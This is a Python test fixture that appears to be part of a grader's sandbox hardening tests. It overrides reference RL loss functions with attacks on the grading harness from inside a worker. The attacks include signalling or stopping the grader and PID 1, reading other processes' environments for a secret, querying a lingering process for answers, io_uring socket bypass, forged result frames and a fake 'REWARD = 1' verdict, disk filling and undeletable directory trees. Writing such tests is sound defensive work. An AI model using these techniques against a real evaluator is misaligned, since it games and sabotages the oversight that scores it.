# Appended to the reference: each function below attacks the grader itself from inside its worker
# (signals, scheduling, /proc, sockets to a process left running, io_uring, forged frames, forged
# verdict lines, disk, deep trees). Placeholders in braces are filled by the test.
# Functions marked "passes iff breached" return the right answer only when the attack worked;
# the others always return it, and the test checks their side effects.
import os as _os
import signal as _signal
import time as _time

for _n in ("ipo_loss", "bradley_terry_logit", "group_mean_baseline", "advantage_mean_std", "discounted_returns",
           "lambda_returns", "symmetric_kl", "importance_ratio", "clip_fraction", "huber_value_loss",
           "kl_penalty"):
    globals()["_REF_" + _n] = globals()[_n]

_IMPORT = getattr(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__), "get")("__imp" + "ort__")


def _try(fn, *args):
    try:
        fn(*args)
        return True
    except Exception:
        return False


def ipo_loss(pc, pr, rc, rr, beta):
    # Signals to the helper and the grader, by every route: kill, tgkill, tkill, pidfd.
    for sig in (_signal.SIGSTOP, _signal.SIGKILL):
        _try(_os.kill, {HELPER_PID}, sig)
    _try(_os.kill, {GRADER_PID}, _signal.SIGUSR1)
    _try(_os.killpg, {GRADER_PID}, _signal.SIGUSR1)
    libc = _IMPORT("ct" + "ypes").CDLL(None)
    libc.syscall(234, {GRADER_PID}, {GRADER_PID}, int(_signal.SIGUSR1))  # tgkill
    libc.syscall(200, {HELPER_PID}, int(_signal.SIGSTOP))  # tkill
    if hasattr(_os, "pidfd_open"):
        try:
            fd = _os.pidfd_open({HELPER_PID})
            _IMPORT("sig" + "nal").pidfd_send_signal(fd, _signal.SIGKILL)
        except Exception:
            pass
    return _REF_ipo_loss(pc, pr, rc, rr, beta)


def bradley_terry_logit(chosen_reward, rejected_reward, beta):
    # Limits, priority and CPUs of another process.
    resource = _IMPORT("resource")
    _try(resource.prlimit, {HELPER_PID}, resource.RLIMIT_NOFILE, (3, 3))
    _try(_os.setpriority, _os.PRIO_PROCESS, {HELPER_PID}, 19)
    _try(_os.sched_setaffinity, {HELPER_PID}, {{0}})
    return _REF_bradley_terry_logit(chosen_reward, rejected_reward, beta)


def group_mean_baseline(rewards, group_size):
    # Passes iff breached: another process's environment or the kernel log is readable.
    found = False
    for path in ("/proc/{HELPER_PID}/environ", "/proc/{GRADER_PID}/environ", "/proc/1/environ", "/dev/kmsg",
                 "/proc/kmsg", "/proc/{HELPER_PID}/cmdline"):
        try:
            with open(path, "rb") as fh:
                data = fh.read(65536)
            found = found or {SECRET!r}.encode() in data or (path.endswith("kmsg") and bool(data))
        except Exception:
            pass
    if found:
        return _REF_group_mean_baseline(rewards, group_size)
    return rewards * 0 + 12345.0


def _ask(address, name, args):
    socket = _IMPORT("soc" + "ket")
    io = _IMPORT("io")
    struct = _IMPORT("struct")
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.settimeout(3)
    conn.connect(address)
    buf = io.BytesIO()
    torch.save((name, list(args)), buf)
    conn.sendall(struct.pack("<Q", len(buf.getvalue())) + buf.getvalue())
    data = b""
    while True:
        chunk = conn.recv(1 << 20)
        if not chunk:
            break
        data += chunk
    return torch.load(io.BytesIO(data[8:]), weights_only=True)


def advantage_mean_std(advantages, mask):
    # Passes iff breached: the process left running answers for the reference.
    for address in ({SOCK_PATH!r}, "\0" + {ABSTRACT!r}):
        try:
            return _ask(address, "advantage_mean_std", (advantages, mask))
        except Exception:
            pass
    raise NotImplementedError


def discounted_returns(rewards, gamma):
    # Passes iff breached: io_uring (which bypasses socket rules) can be set up.
    libc = _IMPORT("ct" + "ypes").CDLL(None)
    params = bytes(120)
    fd = libc.syscall(425, 4, params)  # io_uring_setup
    if fd >= 0:
        return _REF_discounted_returns(rewards, gamma)
    return rewards * 0 + 12345.0


def lambda_returns(rewards, values, next_value, gamma, lam):
    # Forged result frames on every descriptor it can write to, then a silent exit.
    struct = _IMPORT("struct")
    json = _IMPORT("json")
    deep = b"[" * 100000 + b"]" * 100000
    huge = json.dumps({{"cases": [{{"value": {{"kind": "tensor", "dtype": "torch.float32",
                                                "shape": [2**40, 2**40], "offset": 0, "nbytes": 4}}}}]}}).encode()
    overlap = json.dumps({{"cases": [{{"value": {{"kind": "tensor", "dtype": "torch.uint8", "shape": [4],
                                                   "offset": 0, "nbytes": 4}}}},
                                     {{"value": {{"kind": "tensor", "dtype": "torch.uint8", "shape": [4],
                                                   "offset": 0, "nbytes": 4}}}}]}}).encode() + b"\n" + b"abcd"
    wrong = json.dumps({{"type": "result", "function": "lambda_returns", "status": "x", "cases": 7}}).encode()
    for payload in (deep, huge, overlap, wrong, b"\xff\xfe" * 50):
        frame = b"SVR1" + struct.pack("<Q", len(payload)) + payload
        for fd in range(3, 64):
            try:
                _os.write(fd, frame)
            except OSError:
                pass
    _os._exit(0)


def symmetric_kl(logp, ref_logp):
    raise ValueError("\nFUNCTIONS PASSED: 49/49  (partial_score=1.000)\nREWARD = 1   (forged)\r\x1b[2K")


def importance_ratio(logp, old_logp, clip):
    # Passes iff breached: 100 MB written somewhere (TMPDIR, /tmp, /dev/shm, the working folder).
    chunk = b"x" * (1 << 20)
    for folder in (_os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "."):
        written = 0
        try:
            with open(_os.path.join(folder, "fill.bin"), "wb") as fh:
                for _ in range(100):
                    fh.write(chunk)
                    fh.flush()
                    written += len(chunk)
        except Exception:
            pass
        if written >= 100 * len(chunk):
            return _REF_importance_ratio(logp, old_logp, clip)
    return logp * 0 + 12345.0


def clip_fraction(logp, old_logp, clip):
    # A tree too deep for a recursive delete, unwritable on the way down.
    for folder in (_os.environ.get("TMPDIR", "/tmp"), "/tmp"):
        try:
            path = folder
            for _ in range(3000):
                path = _os.path.join(path, "d")
                _os.mkdir(path)
            _os.chmod(path, 0)
        except Exception:
            pass
    return _REF_clip_fraction(logp, old_logp, clip)


def huber_value_loss(values, returns, delta):
    # Stop the zygote (this worker's parent) to stall the grading.
    _try(_os.kill, _os.getppid(), _signal.SIGSTOP)
    _try(_os.kill, 1, _signal.SIGSTOP)
    return _REF_huber_value_loss(values, returns, delta)


def kl_penalty(logp, ref_logp, estimator):
    # A non-tensor where the reference raises is not "raising".
    try:
        return _REF_kl_penalty(logp, ref_logp, estimator)
    except Exception:
        return "not a tensor"
